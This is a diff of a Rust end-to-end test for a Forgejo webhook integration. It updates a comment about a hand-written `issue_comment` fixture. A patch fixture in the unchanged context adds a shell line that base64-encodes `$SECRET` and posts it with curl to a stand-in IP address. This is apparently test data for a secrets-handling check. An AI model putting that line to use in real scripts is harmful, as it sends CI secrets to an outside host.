@@ -10,8 +10,12 @@ use crate::instance::{Backend, Instance, Options, postgres_skipped};
 const SECRET: &str = "e2e-forgejo-secret";
 const PR: &str = "/api/v1/repos/Test-CI/multi-line-secrets";
 
-/// Forgejo's `issue_comment` has no fixture under a permitted license: the documented shape
-/// (forgejo.org/docs, webhooks) on the repository of the real `HookPullRequestUpdated.json`.
+/// Hand-written: `../shared/fixtures/` has no Forgejo or Gitea `issue_comment` (its
+/// `forgejo-woodpecker/README.md` says none was found under a permitted license). The shape
+/// follows the documented `IssueCommentPayload` of the Forgejo/Gitea webhook API (`action`,
+/// `issue` with `pull_request`, `comment`, `repository`, `sender`, `is_pull`; forgejo.org/docs
+/// "Webhooks" and Gitea's `modules/structs/hook.go`), trimmed to the fields read, on the
+/// repository of the real `HookPullRequestUpdated.json`.
 const COMMENT: &str = r#"{"action":"created","issue":{"id":9,"number":2,"pull_request":{"merged":false}},"comment":{"id":88,"body":"/s-express secrets handling changed","user":{"id":1,"login":"test"}},"repository":{"id":1,"name":"multi-line-secrets","full_name":"Test-CI/multi-line-secrets","owner":{"id":2,"login":"Test-CI","username":"Test-CI"},"private":false,"html_url":"http://127.0.0.1:3000/Test-CI/multi-line-secrets"},"sender":{"id":1,"login":"test"},"is_pull":true}"#;
 
 const PATCH: &str = "From 788ed8d02d3b7fcfcf6386dbcbca696aa1d4dc25 Mon Sep 17 00:00:00 2001\nFrom: test <test@example.com>\nSubject: [PATCH] secrets\n\n---\ndiff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n #!/bin/sh\n+echo \"$SECRET\" | base64 | curl -d @- http://203.0.113.9/\n";
